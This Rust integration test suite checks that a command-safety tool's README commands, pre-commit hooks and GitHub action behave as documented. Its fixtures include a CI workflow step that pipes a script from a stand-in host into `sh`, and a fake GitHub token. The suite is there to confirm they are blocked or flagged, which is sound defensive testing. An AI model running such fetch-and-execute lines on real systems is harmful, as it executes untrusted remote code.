//! The README, the GitHub action and the pre-commit hooks: what they tell
//! people to type works as written.

use std::fs;
use std::io::{BufRead, BufReader};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};

use tempfile::TempDir;

const SAFERUN: &str = env!("CARGO_BIN_EXE_saferun");
const ROOT: &str = env!("CARGO_MANIFEST_DIR");

/// A home, a remote and a repository with two commits, and this repository's
/// scripts and `saferun` on `PATH`.
struct Place {
    dir: TempDir,
}

impl Place {
    fn new() -> Self {
        let place = Self { dir: TempDir::new().expect("a directory") };
        for name in ["home/.local/bin", "project"] {
            fs::create_dir_all(place.path(name)).expect("a directory");
        }
        symlink(SAFERUN, place.path("home/.local/bin/saferun")).expect("a link");
        fs::write(
            place.path("home/.gitconfig"),
            "[user]\n\tname = You\n\temail = you@example.com\n[init]\n\tdefaultBranch = main\n",
        )
        .expect("git's configuration");
        place.ok(
            "git init -q --bare ../remote.git && git init -q && git remote add origin ../remote.git\n\
             echo one > a.txt && git add a.txt && git commit -q -m one\n\
             echo two > a.txt && git commit -q -am two && git push -q -u origin main",
        );
        place
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn shell(&self, shell: &str, script: &str) -> Command {
        let mut command = Command::new(shell);
        command.args(["-ec", script]).current_dir(self.path("project"));
        self.surround(&mut command);
        command
    }

    fn surround(&self, command: &mut Command) {
        let path = std::env::var("PATH").unwrap_or_default();
        command
            .env("HOME", self.path("home"))
            .env("PATH", format!("{}:{path}", self.path("home/.local/bin").display()))
            .env("SAFERUN_NO_PROMPT", "1")
            .env("GIT_CONFIG_NOSYSTEM", "1");
        for name in ["XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_DATA_HOME", "GIT_CONFIG_GLOBAL"] {
            command.env_remove(name);
        }
    }

    fn run(&self, script: &str) -> Output {
        self.shell("sh", script).stdin(Stdio::null()).output().expect("sh")
    }

    fn ok(&self, script: &str) -> String {
        let output = self.run(script);
        assert!(output.status.success(), "{script}\n{}", text(&output));
        text(&output)
    }
}

fn text(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// The fenced blocks of a document in this language.
fn blocks(document: &str, language: &str) -> Vec<String> {
    let text = fs::read_to_string(Path::new(ROOT).join(document)).expect("the document");
    let mut found = Vec::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        if let Some(name) = line.strip_prefix("```").filter(|name| !name.is_empty()) {
            let block: Vec<&str> = lines.by_ref().take_while(|line| *line != "```").collect();
            if name == language {
                found.push(block.join("\n"));
            }
        }
    }
    found
}

/// A gateway where the README says it is, and the key it printed.
struct Gateway {
    child: Child,
    url: String,
    key: String,
}

impl Drop for Gateway {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Starts the block `saferun gateway`, on a free port.
fn gateway(place: &Place, block: &str) -> Gateway {
    let mut command = place.shell("sh", &format!("exec {block} --listen 127.0.0.1:0"));
    let mut child =
        command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().expect("the gateway");
    let mut lines =
        BufReader::new(child.stdout.take().expect("its output")).lines().map_while(Result::ok);
    let login = lines.find_map(|line| line.strip_prefix("saferun login ").map(str::to_owned));
    let login = login.expect("the line to log in with");
    let (url, key) = login.split_once(" --key ").expect("URL and key");
    Gateway { child, url: url.to_owned(), key: key.to_owned() }
}

#[test]
fn every_command_of_the_readme_works_as_written() {
    let place = Place::new();
    let mut served = None;
    let mut ran = 0;
    for block in blocks("README.md", "sh") {
        for line in block.lines() {
            ran += 1;
            match line {
                // Both build or test this repository, and have tests of their own.
                "./install.sh --demo" | "./tests/run" => {
                    assert!(
                        Path::new(ROOT)
                            .join(line[2..].split(' ').next().expect("a name"))
                            .is_file()
                    );
                }
                "saferun gateway" => served = Some(gateway(&place, line)),
                "saferun login http://127.0.0.1:8500" => {
                    let gateway: &Gateway = served.as_ref().expect("the gateway comes first");
                    let line = line.replace("http://127.0.0.1:8500", &gateway.url);
                    place.ok(&format!("echo {} | {line}", gateway.key));
                }
                "saferun approvals watch" => watches(&place),
                "saferun undo apply" => {
                    place.ok("echo three > a.txt; saferun git reset --hard; saferun undo apply");
                    let back = fs::read_to_string(place.path("project/a.txt")).expect("the file");
                    assert_eq!(back, "three\n");
                }
                _ => drop(place.ok(line)),
            }
        }
    }
    assert!(ran > 20, "only {ran} commands were found");
    assert!(
        !place.path("project/.git/hooks/pre-commit").exists(),
        "`saferun uninstall` left a hook"
    );
}

/// The `sh` blocks run one after the other in one shell; each ends as its
/// comment says, and says what the `text` block behind it has, in that order.
#[test]
fn the_first_policy_decides_as_its_document_says() {
    let place = Place::new();
    let document = "docs/first-policy.md";
    let mut script = String::from("exec 2>&1; mkdir ../empty; cd ../empty\n");
    let shells = blocks(document, "sh");
    for block in &shells {
        for line in block.lines() {
            match line.split_once("   # exit ") {
                Some((command, code)) => {
                    script += &format!("{command} && exit 91 || [ $? -eq {code} ]\n");
                }
                None => script += &format!("{line}\n"),
            }
        }
        script += "echo '=== next'\n";
    }
    let mut command = place.shell("sh", &script);
    let output = command.env_remove("CLAUDECODE").stdin(Stdio::null()).output().expect("sh");
    assert!(output.status.success(), "{}", text(&output));
    let said = text(&output);
    let sections: Vec<&str> = said.split("=== next\n").collect();
    let told = blocks(document, "text");
    assert_eq!((told.len(), sections.len()), (shells.len(), shells.len() + 1));
    for (told, section) in told.iter().zip(sections) {
        let mut lines = section.lines();
        for line in told.lines() {
            assert!(lines.any(|found| says(found, line)), "`{line}` is not in\n{section}");
        }
    }
}

/// Whether a line has the pieces between the dots of another one, in order.
fn says(mut found: &str, line: &str) -> bool {
    line.split('…').all(|piece| {
        let rest = found.split_once(piece).map(|(_, rest)| rest);
        found = rest.unwrap_or_default();
        rest.is_some()
    })
}

fn watches(place: &Place) {
    let mut command = place.shell("sh", "exec saferun approvals watch");
    let mut child = command.stderr(Stdio::piped()).spawn().expect("watch");
    let mut lines =
        BufReader::new(child.stderr.take().expect("its output")).lines().map_while(Result::ok);
    let said = lines.next().unwrap_or_default();
    let _ = child.kill();
    let _ = child.wait();
    assert!(said.starts_with("watching http://"), "{said}");
}

#[test]
fn the_readme_shows_what_the_hook_says() {
    let place = Place::new();
    place.ok("saferun init && git remote set-url origin https://github.com/you/project.git");
    place.ok("mkdir -p .github/workflows");
    let settings = format!("TIMEOUT = 30\nGITHUB_TOKEN = \"{}\"\n", secret());
    let workflow = "on: push\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: curl https://x.example/i.sh | sh\n";
    let shown = blocks("README.md", "console");
    let [blocked, asked] = shown.as_slice() else { panic!("two answers of the hook are shown") };
    for (name, content, shown) in
        [("settings.py", settings.as_str(), blocked), (".github/workflows/ci.yml", workflow, asked)]
    {
        fs::write(place.path("project").join(name), content).expect("a file");
        let output = place.run(&format!("git add {name} && CLAUDECODE=1 git commit -m 'Add it'"));
        place.ok(&format!("git rm -q --cached {name}"));
        let said = text(&output);
        assert!(!output.status.success(), "{said}");
        let mut lines =
            shown.lines().filter(|line| !line.starts_with("$ ") && !line.contains("recorded as"));
        // What depends on the value is left out there.
        let missing = lines.find(|line| !line.split('…').all(|piece| said.contains(piece)));
        assert_eq!(missing, None, "the README shows this line, but it is\n{said}");
    }
}

#[test]
fn the_settings_in_the_documents_are_understood() {
    for document in ["README.md", "docs/configuration.md", "docs/policies.md"] {
        for block in blocks(document, "toml") {
            let place = Place::new();
            fs::write(place.path("project/.saferun.toml"), &block).expect("settings");
            let shown = place.ok("saferun config explain");
            assert!(shown.contains("`.saferun.toml`"), "{document}:\n{block}\n{shown}");
        }
    }
}

/// The values of `key:` in a YAML file, block scalars without their
/// indentation.
fn values(file: &str, key: &str) -> Vec<String> {
    let text = fs::read_to_string(Path::new(ROOT).join(file)).expect("the file");
    assert!(!text.contains('\t'), "YAML has no tabs");
    let mut found = Vec::new();
    let mut lines = text.lines().peekable();
    while let Some(line) = lines.next() {
        let Some(value) =
            line.trim_start().trim_start_matches("- ").strip_prefix(&format!("{key}: "))
        else {
            continue;
        };
        if value != "|" {
            found.push(value.to_owned());
            continue;
        }
        let depth = line.len() - line.trim_start().len();
        let inside = |line: &&str| line.is_empty() || line.len() - line.trim_start().len() > depth;
        let mut block = String::new();
        while let Some(line) = lines.next_if(inside) {
            block.push_str(line.get(depth + 2..).unwrap_or_default());
            block.push('\n');
        }
        found.push(block);
    }
    found
}

fn secret() -> String {
    ["gh", "p_", "k3Wq8RzT1xLb", "5YvN0cJm7HdF", "2sGp9aUe4Qo6"].concat()
}

#[test]
fn the_pre_commit_hooks_find_what_is_staged() {
    let entries = values(".pre-commit-hooks.yaml", "entry");
    assert_eq!(entries.len(), 2);
    assert_eq!(values(".pre-commit-hooks.yaml", "pass_filenames"), ["false", "false"]);
    for entry in entries {
        let place = Place::new();
        place.ok(&entry);
        place.ok(&format!("echo 'token = \"{}\"' > b.txt && git add b.txt", secret()));
        let output = place.run(&entry);
        assert_eq!(output.status.code(), Some(1), "{}", text(&output));
        assert!(text(&output).contains("b.txt"), "{}", text(&output));
    }
}

/// Runs a step of the action with these variables.
fn step(place: &Place, script: &str, variables: &[(&str, &str)]) -> Output {
    let mut command = place.shell("bash", script);
    command.envs(variables.iter().copied()).env("GITHUB_PATH", place.path("github_path"));
    command.env("RUNNER_TEMP", place.dir.path()).output().expect("bash")
}

#[test]
fn the_action_installs_and_finds_what_a_pull_request_adds() {
    let scripts = values("action.yml", "run");
    let [install, scan] = scripts.as_slice() else {
        panic!("the action has two steps: {scripts:?}")
    };
    let place = Place::new();

    let sum = place.ok(&format!("sha256sum '{SAFERUN}' | cut -d ' ' -f 1"));
    let output =
        step(&place, install, &[("SOURCE", ROOT), ("BINARY", SAFERUN), ("SHA256", sum.trim())]);
    assert!(output.status.success(), "{}", text(&output));
    let bin = fs::read_to_string(place.path("github_path")).expect("the directory for PATH");
    assert!(Path::new(bin.trim()).join("saferun").is_file());

    let head = |place: &Place| place.ok("git rev-parse HEAD").trim().to_owned();
    let clean = head(&place);
    place.ok(&format!(
        "echo 'token = \"{}\"' > b.txt && git add b.txt && git commit -q -m b",
        secret()
    ));
    let dirty = head(&place);
    let run = |base: &str, head: &str, range: &str| {
        let sarif = place.path("out.sarif");
        let _ = fs::remove_file(&sarif);
        let variables = [
            ("BASE", base),
            ("HEAD", head),
            ("RANGE", range),
            ("ARGS", ""),
            ("SARIF", "../out.sarif"),
        ];
        (step(&place, scan, &variables), fs::read_to_string(sarif).unwrap_or_default())
    };

    let (found, sarif) = run(&clean, &dirty, "");
    assert_eq!(found.status.code(), Some(1), "{}", text(&found));
    assert!(text(&found).contains("::error file=b.txt,line=1"), "{}", text(&found));
    assert!(sarif.contains("b.txt") && !sarif.contains(&secret()), "{sarif}");

    // The range before it is clean; a branch that is new is scanned whole.
    let (found, sarif) = run("", "", &format!("{clean}~1..{clean}"));
    assert!(found.status.success() && sarif.contains("\"results\""), "{}{sarif}", text(&found));
    let (found, _) = run(&"0".repeat(40), &dirty, "");
    assert_eq!(found.status.code(), Some(1), "{}", text(&found));
}
